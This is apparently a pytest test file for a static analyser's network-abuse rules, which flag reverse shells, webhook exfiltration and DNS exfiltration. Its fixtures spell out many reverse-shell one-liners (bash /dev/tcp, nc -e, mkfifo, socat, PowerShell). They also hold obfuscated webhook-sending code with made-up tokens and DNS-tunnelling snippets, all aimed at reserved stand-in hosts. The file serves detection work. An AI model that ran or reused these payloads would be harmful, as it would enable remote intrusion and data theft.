"""PY-REVERSE-SHELL, PY-WEBHOOK-EXFIL, PY-DNS-EXFIL: malicious snippets fire, benign look-alikes do not.

The snippets are only parsed, never run; hosts are reserved names and webhook tokens are made up."""

from __future__ import annotations

import textwrap

import pytest

from plugyard_analysis.rules.network_abuse import DNS_EXFIL, REVERSE_SHELL, WEBHOOK_EXFIL, dns_exfil, reverse_shell, webhook_exfil
from plugyard_analysis.sources import parse_python

CHECKS = {"shell": (reverse_shell, REVERSE_SHELL), "webhook": (webhook_exfil, WEBHOOK_EXFIL), "dns": (dns_exfil, DNS_EXFIL)}


def hits(rule: str, code: str) -> list[tuple[str, int | None, str]]:
    check, info = CHECKS[rule]
    src = parse_python("sample/mod.py", textwrap.dedent(code).encode("utf-8"))
    return [(hit.severity or info.severity, getattr(hit.node, "lineno", hit.line), hit.detail) for hit in check(src)]


def test_severities() -> None:
    assert (REVERSE_SHELL.severity, WEBHOOK_EXFIL.severity, DNS_EXFIL.severity) == ("critical", "high", "high")


# --- PY-REVERSE-SHELL -----------------------------------------------------------------------------------

SHELLS = {
    "dup2 then subprocess": """
        import socket, os, subprocess
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("192.0.2.1", 4444))
        os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
        subprocess.call(["/bin/sh", "-i"])
    """,
    "dup2 in a function then execl": """
        import socket as so, os
        def go():
            c = so.create_connection(("192.0.2.1", 80))
            os.dup2(c.fileno(), 1)
            os.execl("/bin/sh", "sh")
    """,
    "bind shell with accept": """
        import socket, os, subprocess
        server = socket.socket()
        server.bind(("0.0.0.0", 4444)); server.listen(1)
        conn, addr = server.accept()
        os.dup2(conn.fileno(), 0)
        subprocess.call("/bin/bash")
    """,
    "popen stdio is the socket": """
        import socket, subprocess
        s = socket.create_connection(("192.0.2.1", 4444))
        subprocess.Popen(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
    """,
    "popen stdio is the socket fileno": """
        import socket, subprocess
        with socket.socket() as s:
            s.connect(("192.0.2.1", 4444))
            subprocess.run("cmd.exe", stdin=s.fileno(), stdout=s.fileno())
    """,
    "pty spawn": """
        import socket, pty
        s = socket.socket(); s.connect(("192.0.2.1", 4444))
        pty.spawn("/bin/bash")
    """,
    "recv into subprocess": """
        import socket, subprocess
        s = socket.socket(); s.connect(("192.0.2.1", 4444))
        while True:
            cmd = s.recv(1024).decode()
            s.send(subprocess.check_output(cmd, shell=True))
    """,
    "recv into os.popen": "import socket, os\ns = socket.create_connection(H)\nos.popen(s.recv(512).decode().strip()).read()",
    "recv into process stdin": """
        import socket, subprocess
        s = socket.create_connection(("192.0.2.1", 4444))
        p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        while True:
            p.stdin.write(s.recv(1024))
    """,
    "bash dev tcp": "import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')",
    "sh dev tcp built": "import subprocess\nH = '192.0.2.1'\nsubprocess.Popen(['bash', '-c', 'sh -i >& /dev/tcp/' + H + '/9001 0>&1'])",
    "exec 196": "import os\nos.system('0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196')",
    "nc -e": "import os\nos.system('nc -e /bin/sh 192.0.2.1 4444')",
    "ncat -c": "import subprocess\nsubprocess.run('ncat 192.0.2.1 4444 -c bash', shell=True)",
    "mkfifo nc": "import os\nos.system('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f')",
    "socat": "import os\nos.system('socat exec:\"bash -li\",pty,stderr tcp:192.0.2.1:4444')",
    "powershell tcpclient": "import subprocess\nsubprocess.Popen(['powershell', '-c', '$c = New-Object System.Net.Sockets.TCPClient(\"192.0.2.1\",4444);$s = $c.GetStream()'])",
    "os bound by getattr": "import os, socket\nfork = getattr(os, 'dup' + '2')\nspawn = getattr(__import__('subprocess'), 'call')\ns = socket.create_connection(A)\nos.dup2(s.fileno(), 0)\nspawn(['/bin/sh'])",
    "command in a constant": "import subprocess\nCMD = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'\ndef go(runner):\n    runner(CMD)\nsubprocess.run(['true'])",
}


@pytest.mark.parametrize("code", SHELLS.values(), ids=SHELLS.keys())
def test_reverse_shells_are_critical(code: str) -> None:
    found = hits("shell", code)
    assert found, code
    assert {severity for severity, _, _ in found} == {"critical"}


BENIGN_SHELLS = {
    "port check then tool": "import socket, subprocess\nwith socket.create_connection(('localhost', 5432)):\n    pass\nsubprocess.run(['alembic', 'upgrade', 'head'])",
    "echo server": "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 7))\ns.listen()\nc, _ = s.accept()\nc.sendall(c.recv(10))",
    "pty without a socket": "import pty\npty.spawn(['ls', '--color'])",
    "daemonize to devnull": "import os, subprocess\nwith open(os.devnull, 'rb+') as n:\n    os.dup2(n.fileno(), 0)\nsubprocess.run(['worker'])",
    "dev tcp port probe": "import subprocess\nsubprocess.run(['bash', '-c', 'echo > /dev/tcp/localhost/5432'])",
    "dev tcp http get": "import subprocess\nsubprocess.run(['bash', '-c', 'exec 3<>/dev/tcp/example.com/80; echo GET / >&3; cat <&3'])",
    "socketpair for a child": "import socket, subprocess\na, b = socket.socketpair()\nsubprocess.Popen(['worker'], stdin=b)",
    "recv goes to a file": "import socket, subprocess\ns = socket.create_connection(H)\ndata = s.recv(100)\nsubprocess.run(['logger', 'received'])\nopen('x', 'wb').write(data)",
    "nc without -e": "import subprocess\nsubprocess.run(['nc', '-z', 'localhost', '5432'])",
    "reverse-shell text without any process": "HELP = 'never run: bash -i >& /dev/tcp/host/port 0>&1'",
    "docstring mention": '"""Detects strings like `nc -e /bin/sh host port` in logs."""\nimport subprocess\nsubprocess.run(["grep", "-r", "nc", "/var/log"])',
}


@pytest.mark.parametrize("code", BENIGN_SHELLS.values(), ids=BENIGN_SHELLS.keys())
def test_benign_sockets_and_shells(code: str) -> None:
    assert hits("shell", code) == []


# --- PY-WEBHOOK-EXFIL -----------------------------------------------------------------------------------

DISCORD = "https://discord.com/api/webhooks/1122334455667788990/Zq7fKx2pLm9Yt4RwV6bN1cE8aJ3hU5sD0gFiOoPkQl"
SLACK = "https://hooks.slack.com/services/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"
TELEGRAM_TOKEN = "5829301746:AAH3kQ9fZx7LmP2rV8tW1yN6bC4dE0gJsUo"

WEBHOOKS = {
    "discord post": f"import requests\nrequests.post('{DISCORD}', json={{'content': 'x'}})",
    "discordapp and v9": "import requests\nrequests.post('https://discordapp.com/api/v9/webhooks/998877665544332211/aB3dE5gH7jK9mN1pQ3sT5vX7zB9dF1h', data={})",
    "slack via urllib": f"import urllib.request\nurllib.request.urlopen(urllib.request.Request('{SLACK}', data=b'x'))",
    "telegram f-string with token constant": f"import requests\nT = '{TELEGRAM_TOKEN}'\nrequests.get(f'https://api.telegram.org/bot{{T}}/sendMessage', params={{'text': 'x'}})",
    "telegram concatenation": f"import requests\nrequests.post('https://api.telegram.org/bot' + '{TELEGRAM_TOKEN}' + '/sendDocument', files={{}})",
    "url through a helper": f"import requests\nHOOK = '{DISCORD}'\ndef send(url, body):\n    requests.post(url, json=body)\nsend(HOOK, {{}})",
    "url in a session post": f"import requests\ns = requests.Session()\ns.post('{SLACK}', json={{}})",
    "discord_webhook library": f"from discord_webhook import DiscordWebhook\nDiscordWebhook(url='{DISCORD}', content='x').execute()",
    "dhooks": f"from dhooks import Webhook\nWebhook('{DISCORD}').send('x')",
    "telebot token": f"import telebot\nbot = telebot.TeleBot('{TELEGRAM_TOKEN}')\nbot.send_message(1, 'x')",
    "discord url from pieces": """
        import requests
        BASE = "https://discord.com/api/webhooks/"
        PARTS = ["1122334455667788990", "Zq7fKx2pLm9Yt4RwV6bN1cE8aJ3hU5sD0gFiOoPkQlWeRrTtYyUuIiOoPpAaSsDdFfGgHhJj"]
        def ship(body, config={"u": None}):
            url = config["u"] or BASE + "/".join(PARTS)
            requests.post(url, json=body)
    """,
    "telegram token kept apart": f"""
        import requests
        API = "https://api.telegram.org/bot"
        SECRET = "{TELEGRAM_TOKEN}"
        def send(path, files):
            requests.post(ENDPOINTS[path], files=files)
    """,
    "url joined from fragments, sent by a helper": """
        import requests
        HOOK = "".join(["https://disc", "ord.com/api/web", "hooks/1122334455667788990/", "Zq7fKx2pLm9Yt4RwV6bN1cE8aJ3hU5sD0gFiOoPkQl"])
        def send(url, body):
            requests.post(url, json=body)
    """,
    "reversed url": f"""
        import requests
        H = "{DISCORD[::-1]}"
        def send(u, body):
            requests.post(u, json=body)
    """,
    "base64 url": """
        import base64, requests
        H = "aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMTEyMjMzNDQ1NTY2Nzc4ODk5MC9acTdmS3gycExtOVl0NFJ3VjZiTjFjRThhSjNoVTVzRDBnRmlPb1BrUWw="
        def send(u, body):
            requests.post(u, json=body)
    """,
    "url from a dict of parts": """
        import requests
        CFG = {"id": "1122334455667788990", "key": "Zq7fKx2pLm9Yt4RwV6bN1cE8aJ3hU5sD0gFiOoPkQl"}
        def send(body):
            requests.post(f"https://discord.com/api/webhooks/{CFG['id']}/{CFG['key']}", json=body)
    """,
    "url from a list joined later": """
        import requests
        PARTS = ["https://discord.com/api/webhooks", "1122334455667788990", "Zq7fKx2pLm9Yt4RwV6bN1cE8aJ3hU5sD0gFiOoPkQl"]
        def send(body):
            requests.post("/".join(PARTS), json=body)
    """,
    "urljoin": """
        import requests, urllib.parse
        BASE = "https://discord.com/api/webhooks/"
        def send(body):
            requests.post(urllib.parse.urljoin(BASE, "1122334455667788990/Zq7fKx2pLm9Yt4RwV6bN1cE8aJ3hU5sD0gFiOoPkQl"), json=body)
    """,
    "short made-up token kept apart": """
        import requests
        PREFIX = "https://discord.com/api/webhooks/"
        WID = "1122334455667788990"
        WKEY = "aB3dE5gH7jK9mN1pQ3sT5vX7zB9dF1h"
        def ship(url, body):
            requests.post(url, json=body)
    """,
    "url built in a helper function": f"""
        import requests
        def target():
            return "{DISCORD}"
        def report(info):
            requests.post(url=target(), json=info)
    """,
}


@pytest.mark.parametrize("code", WEBHOOKS.values(), ids=WEBHOOKS.keys())
def test_hard_coded_webhooks_are_high(code: str) -> None:
    found = hits("webhook", code)
    assert found, code
    assert {severity for severity, _, _ in found} == {"high"}


BENIGN_WEBHOOKS = {
    "configured url": "import requests\ndef notify(cfg, t):\n    requests.post(cfg['slack_webhook'], json={'text': t})",
    "placeholder in help text": "import requests\nEXAMPLE = 'https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX'\nrequests.post(url, json={})",
    "placeholder discord": "import requests\nrequests.post('https://discord.com/api/webhooks/123456789012345678/your-webhook-token-goes-here', json={})",
    "base url only": "import requests\ndef send(i, t):\n    requests.post('https://discord.com/api/webhooks/' + i + '/' + t, json={})",
    "bot api with user token": "import requests\ndef send(token, text):\n    requests.post(f'https://api.telegram.org/bot{token}/sendMessage', data={'text': text})",
    "discord rest api": "import os, requests\nrequests.post('https://discord.com/api/v10/channels/1/messages', headers={'Authorization': os.environ['T']})",
    "webhook url in a module that sends nothing": f"WEBHOOK = '{DISCORD}'",
    "webhook url in prose": f"import requests\nHELP = 'paste a URL like {DISCORD} here'\nrequests.get('https://example.com')",
    "webhook prefix and a digest": "import requests\nPREFIX = 'https://discord.com/api/webhooks/'\nSHA = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'\ndef f(u):\n    if u.startswith(PREFIX):\n        requests.post(u, json={})",
}


@pytest.mark.parametrize("code", BENIGN_WEBHOOKS.values(), ids=BENIGN_WEBHOOKS.keys())
def test_benign_webhook_look_alikes(code: str) -> None:
    assert hits("webhook", code) == []


# --- PY-DNS-EXFIL ---------------------------------------------------------------------------------------

DNS = {
    "base32 chunks": """
        import base64, socket
        def leak(data):
            enc = base64.b32encode(data).decode().strip("=")
            for i in range(0, len(enc), 60):
                socket.gethostbyname(f"{enc[i:i+60]}.x.example.invalid")
    """,
    "hex of user and host": "import socket, getpass\nlabel = (getpass.getuser() + socket.gethostname()).encode().hex()\nsocket.getaddrinfo(label + '.t.example.invalid', 80)",
    "two system facts": "import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.' + socket.gethostname() + '.t.example.invalid')",
    "environment identity": "import os, socket\nsocket.gethostbyname('{}.{}.t.example.invalid'.format(os.environ['USER'], os.getcwd().replace('/', '-')))",
    "percent format": "import binascii, socket\nsocket.gethostbyname('%s.d.example.invalid' % binascii.hexlify(SECRET).decode())",
    "domain constant": "import base64, socket\nDOMAIN = 'z.example.invalid'\nsocket.gethostbyname(base64.b32encode(B).decode() + '.' + DOMAIN)",
    "dnspython resolve": "import dns.resolver, binascii\ndns.resolver.resolve(binascii.hexlify(B).decode() + '.k.example.invalid', 'TXT')",
    "dnspython resolver object": "import dns.resolver, base64\nr = dns.resolver.Resolver()\nr.resolve(f'{base64.b32encode(B).decode()}.k.example.invalid', 'A')",
    "nslookup": "import subprocess, base64, getpass\nt = base64.b32encode(getpass.getuser().encode()).decode()\nsubprocess.run(['nslookup', t + '.n.example.invalid'])",
    "dig in a shell string": "import os, binascii\nos.system(f'dig {binascii.hexlify(D).decode()}.n.example.invalid')",
    "encoded by the caller": """
        import base64, dns.resolver
        ZONE = "q.example.invalid"
        def lookup(label):
            return dns.resolver.resolve(f"{label}.{ZONE}", "TXT")
        def leak(blob):
            text = base64.b32encode(blob).decode().rstrip("=")
            for i in range(0, len(text), 60):
                lookup(text[i:i + 60])
    """,
    "zone on self, name through dns.name": """
        import base64, dns.name, dns.resolver
        class Channel:
            def __init__(self):
                self.zone = "c.example.invalid"
                self.resolver = dns.resolver.Resolver()
            def push(self, data):
                label = base64.b32encode(data).decode().strip("=").lower()
                name = dns.name.from_text(f"{label}.{self.zone}")
                self.resolver.resolve(name, "TXT")
    """,
    "resolver bound by import_module": """
        import base64, importlib
        resolver = importlib.import_module("dns.resolver")
        def push(data):
            resolver.resolve(base64.b32encode(data).decode() + ".r.example.invalid", "TXT")
    """,
    "zone from an environment default": """
        import base64, os, socket
        ZONE = os.environ.get("SYNC_ZONE", "s.example.invalid")
        def push(data):
            socket.gethostbyname(base64.b32encode(data).decode().strip("=") + "." + ZONE)
    """,
    "zone as a parameter default": """
        import binascii, dns.resolver
        def push(data, zone="p.example.invalid"):
            dns.resolver.resolve("%s.%s" % (binascii.hexlify(data).decode(), zone), "TXT")
    """,
    "encoded in a helper": """
        import socket, binascii
        def encode(data):
            return binascii.hexlify(data).decode()
        def leak(data):
            socket.gethostbyname(encode(data) + ".h.example.invalid")
    """,
}


@pytest.mark.parametrize("code", DNS.values(), ids=DNS.keys())
def test_dns_exfiltration_is_high(code: str) -> None:
    found = hits("dns", code)
    assert found, code
    assert {severity for severity, _, _ in found} == {"high"}


BENIGN_DNS = {
    "literal host": "import socket\nsocket.gethostbyname('api.example.com')",
    "configured host": "import socket\ndef f(cfg):\n    return socket.gethostbyname(cfg['host'])",
    "own host name": "import socket\nsocket.getaddrinfo(socket.gethostname(), None)",
    "own host .local": "import socket\nsocket.gethostbyname(socket.gethostname() + '.local')",
    "srv of a parameter": "import dns.resolver\ndef f(domain):\n    return dns.resolver.resolve(f'_svc._tcp.{domain}', 'SRV')",
    "cluster service": "import os, socket\nsocket.gethostbyname(f\"{os.environ['SVC']}.{os.environ['NS']}.svc.cluster.local\")",
    "one system fact under a domain": "import socket\nsocket.gethostbyname(socket.gethostname() + '.corp.example.com')",
    "hex digest in a URL, not a DNS name": "import hashlib, requests\nrequests.get('https://api.example.com/' + hashlib.sha256(b).hexdigest())",
    "ping a configured host": "import subprocess\ndef f(host):\n    subprocess.run(['ping', '-c', '1', host])",
}


@pytest.mark.parametrize("code", BENIGN_DNS.values(), ids=BENIGN_DNS.keys())
def test_benign_dns_lookups(code: str) -> None:
    assert hits("dns", code) == []
